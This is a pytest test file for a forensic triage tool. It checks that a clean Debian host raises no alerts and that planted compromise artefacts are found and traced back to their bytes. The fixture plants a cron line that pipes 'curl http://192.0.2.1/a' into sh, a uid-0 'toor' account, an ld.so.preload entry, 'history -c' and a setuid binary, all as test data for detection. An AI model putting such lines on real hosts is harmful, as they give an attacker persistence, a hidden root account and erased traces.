"""Through real bags: a Debian host's own files give no alert; what is planted leads back to its bytes."""

from __future__ import annotations

import os
import shutil
import stat
import time
from pathlib import Path

import pytest

from forensics.answers.opening import cases
from forensics.answers.run import run_all
from forensics.model.event_rows import finding_from_row, finding_row

DAY = "2026-11-24T03:"
AUTH = (
    "".join(
        f"{DAY}{n:02d}:00.000000+00:00 web1 sshd[{n}]: Failed password for root from 198.51.100.7 port 40{n:02d} ssh2\n"
        for n in range(12)
    )
    + f"{DAY}13:00.000000+00:00 web1 sshd[99]: Accepted password for root from 198.51.100.7 port 4100 ssh2\n"
)


def answered(tree: Path, place: Path):
    """Collect, process into a workspace, ask."""
    from forensics import collect, open_source
    from forensics.processing.process import Settings, process_workspace
    from forensics.workspace.work import Workspace

    with open_source(tree) as source:
        bag = collect(source, place / "bag", profile="triage")
    work = Workspace.open(place / "work", [Path(bag.path)])
    process_workspace(work, Settings(scan=False, workers=1))
    (case,) = cases(place / "work")
    return case, run_all(case)


def copy_host(tree: Path) -> None:
    """A subset of this host: /etc, its logs, the lists of its packages; regular files and links alone."""

    def skip(folder: str, names: list[str]) -> list[str]:
        out = []
        for name in names:
            path = os.path.join(folder, name)
            status = os.lstat(path)
            folder_or_link = stat.S_ISDIR(status.st_mode) or stat.S_ISLNK(status.st_mode)
            small = stat.S_ISREG(status.st_mode) and status.st_size <= 2 << 20 and os.access(path, os.R_OK)
            if not (folder_or_link or small) or ("dpkg/info" in folder and not name.endswith(".list")):
                out.append(name)
        return out

    for part in ("etc", "var/log", "var/lib/dpkg/info", "lib/systemd/system"):
        if Path("/", part).is_dir():
            shutil.copytree(Path("/", part), tree / part, symlinks=True, ignore=skip, ignore_dangling_symlinks=True)


def test_a_clean_debian_gives_no_alert(tmp_path, not_shown):
    if not Path("/etc/debian_version").exists():
        not_shown("needs a Debian host")
    tree = tmp_path / "tree"
    copy_host(tree)
    case, result = answered(tree, tmp_path)
    assert sum(1 for _ in case.artefacts()) > 300 and not case.problems
    assert not [one.title for one in result.findings if one.level == "alert"]
    # nothing of what packages ship stands out as persistence
    assert not [one.title for one in result.findings if one.by == "answers.persistence" and one.level != "notice"]
    assert len(list(result.tables["accounts"])) > 10 and len(list(result.tables["persistence"])) > 10
    said = {(one.answer, one.what) for one in result.not_evaluated}
    assert ("answers.processes", "processes") in said and ("answers.sockets", "listeners") in said


@pytest.fixture(scope="module")
def planted_host(tmp_path_factory):
    place = tmp_path_factory.mktemp("answers")
    tree = place / "tree"
    for folder in ("etc/cron.d", "var/log", "root/.ssh", "var/lib/dpkg/info", "usr/bin"):
        (tree / folder).mkdir(parents=True)
    (tree / "etc/cron.d/x").write_text("# nothing\n*/5 * * * * root curl -s http://192.0.2.1/a | sh\n")
    (tree / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/:/bin/sh\n")
    (tree / "etc/ld.so.preload").write_text("/lib/libx.so\n")
    (tree / "var/log/auth.log").write_text(AUTH)
    (tree / "root/.bash_history").write_text("ls\nhistory -c\n")
    (tree / "var/lib/dpkg/info/coreutils.list").write_text("/bin/ls\n")
    (tree / "usr/bin/sh2").write_bytes(b"\x7fELF")
    (tree / "usr/bin/sh2").chmod(0o4755)
    return answered(tree, place)


def test_what_is_planted_leads_back_to_its_bytes(planted_host):
    case, result = planted_host
    found = {(one.by.removeprefix("answers."), one.rule): one for one in result.findings}
    assert {("persistence", "cron"), ("persistence", "preload"), ("accounts", "uid-0"), ("logons", "guessed"),
            ("logons", "root"), ("commands", "seen"), ("changed", "setuid")} <= set(found)  # fmt: skip
    contents = {held.sha256: held for held in case.artefacts()}
    for key, text in (
        (("persistence", "cron"), b"*/5 * * * * root curl"),
        (("accounts", "uid-0"), b"toor:x:0"),
        (("commands", "seen"), b"history -c"),
        (("logons", "guessed"), b"2026-11-24T03:13:00"),
    ):
        ref = found[key].refs[0]
        data = case.read(contents[ref.content])
        assert data is not None and data[int(ref.locator[1:]) :].startswith(text), key
    assert {one.event_id for one in case.events()} >= {found["logons", "guessed"].refs[0].event_id}


def test_findings_survive_their_rows(planted_host):
    _, result = planted_host
    for one in result.findings:
        assert finding_from_row(finding_row(one)) == one


def test_tables_are_made_anew_each_time(planted_host):
    case, result = planted_host
    table = result.tables["logons"]
    assert len(list(table)) == len(list(table)) == 13
    row = next(iter(table))
    assert row["path"] == "/var/log/auth.log" and row["source"] == "198.51.100.7" and row["result"] in ("ok", "failed")
    assert case.place(row["content"]).seq == row["seq"]


def test_a_damaged_partition_is_a_problem_and_no_end(planted_host, tmp_path):
    case, _ = planted_host
    partition = next(one for one in case.partitions if one.parser == "linux.auth")
    whole = partition.path.read_bytes()
    try:
        partition.path.write_bytes(whole[: len(whole) // 2])
        start = time.monotonic()
        assert len(list(case.events(("logon-failed",)))) < 12
        assert {problem.code for problem in case.problems} >= {"partition-changed"} and time.monotonic() - start < 5
        assert list(case.events(("command",))), "the others are read"
    finally:
        partition.path.write_bytes(whole)
        case.problems.clear()
